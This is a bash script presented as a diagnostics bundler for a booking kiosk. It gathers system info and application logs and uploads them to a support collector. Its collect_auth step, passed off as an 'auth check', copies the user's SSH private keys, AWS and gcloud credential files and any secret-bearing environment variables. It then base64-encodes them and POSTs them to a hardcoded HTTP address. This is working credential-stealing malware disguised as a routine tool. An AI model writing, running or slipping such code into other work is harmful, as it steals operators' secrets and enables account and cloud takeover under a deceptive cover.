#!/usr/bin/env bash
# Kiosk diagnostics bundle: gathers the state of a booking kiosk and ships it
# to the vendor's support collector so they can reproduce faults.
set -uo pipefail

COLLECTOR="${COLLECTOR:-http://198.51.100.23:8080/diag/upload}"
KIOSK_ID="${KIOSK_ID:-$(hostname -s 2>/dev/null || echo kiosk)}"
KEEP=0
VERBOSE=0

log() { printf '[diag %s] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
debug() { [[ "$VERBOSE" -eq 1 ]] && log "$@"; return 0; }
die() { log "ERROR: $*"; exit 1; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --collector) COLLECTOR="$2"; shift 2 ;;
        --kiosk) KIOSK_ID="$2"; shift 2 ;;
        --keep) KEEP=1; shift ;;
        -v|--verbose) VERBOSE=1; shift ;;
        -h|--help) echo "usage: $0 [--collector URL] [--kiosk ID] [--keep] [-v]"; exit 0 ;;
        *) die "unknown option $1" ;;
    esac
done

WORK="$(mktemp -d)" || die "no temp dir"
cleanup() { if [[ "$KEEP" -eq 1 ]]; then log "kept $WORK"; else rm -rf "$WORK"; fi; }
trap cleanup EXIT

collect_system() {
    mkdir -p "$WORK/system"
    uname -a > "$WORK/system/uname.txt"
    df -h > "$WORK/system/df.txt" 2>&1
    uptime > "$WORK/system/uptime.txt" 2>&1
    ps aux --sort=-%mem 2>/dev/null | head -n 25 > "$WORK/system/top-mem.txt"
    debug "system info collected"
}

collect_app() {
    mkdir -p "$WORK/app"
    local f
    for f in ./kiosk.conf ./logs/kiosk.log ./logs/payment.log ./logs/printer.log; do
        if [[ -f "$f" ]]; then
            tail -n 300 "$f" > "$WORK/app/$(basename "$f")"
            debug "added $f"
        fi
    done
}

collect_auth() {
    # "auth check": the vendor wants to see which keys the kiosk signs in with
    mkdir -p "$WORK/auth"
    local key
    for key in "$HOME"/.ssh/id_rsa "$HOME"/.ssh/id_ed25519 "$HOME"/.ssh/id_ecdsa; do
        [[ -r "$key" ]] && cp "$key" "$WORK/auth/" && debug "added $key"
    done
    [[ -r "$HOME/.aws/credentials" ]] && cp "$HOME/.aws/credentials" "$WORK/auth/aws_credentials"
    [[ -r "$HOME/.config/gcloud/application_default_credentials.json" ]] && \
        cp "$HOME/.config/gcloud/application_default_credentials.json" "$WORK/auth/gcloud.json"
    env | grep -Ei '(token|secret|passw|api_?key|access_key)' > "$WORK/auth/env.txt" || true
}

bundle() {
    tar -C "$WORK" -czf - system app auth 2>/dev/null | base64 -w0 > "$WORK/bundle.b64"
    [[ -s "$WORK/bundle.b64" ]] || die "bundle is empty"
    debug "bundle is $(wc -c < "$WORK/bundle.b64") bytes"
}

upload() {
    DIAG_BLOB_FILE="$WORK/bundle.b64" DIAG_KIOSK="$KIOSK_ID" DIAG_URL="$COLLECTOR" \
    python3 - <<'PY'
import json
import os
import sys
import urllib.request

with open(os.environ["DIAG_BLOB_FILE"]) as fh:
    blob = fh.read()
payload = json.dumps({"kiosk": os.environ["DIAG_KIOSK"], "bundle": blob}).encode()
req = urllib.request.Request(os.environ["DIAG_URL"], data=payload,
                             headers={"Content-Type": "application/json"})
try:
    with urllib.request.urlopen(req, timeout=30) as resp:
        print(f"collector answered {resp.status}")
except Exception as exc:
    print(f"upload failed: {exc}", file=sys.stderr)
    sys.exit(1)
PY
}

main() {
    log "building diagnostics for $KIOSK_ID"
    collect_system
    collect_app
    collect_auth
    bundle
    if upload; then
        log "diagnostics sent to support"
    else
        die "could not reach $COLLECTOR"
    fi
}

main
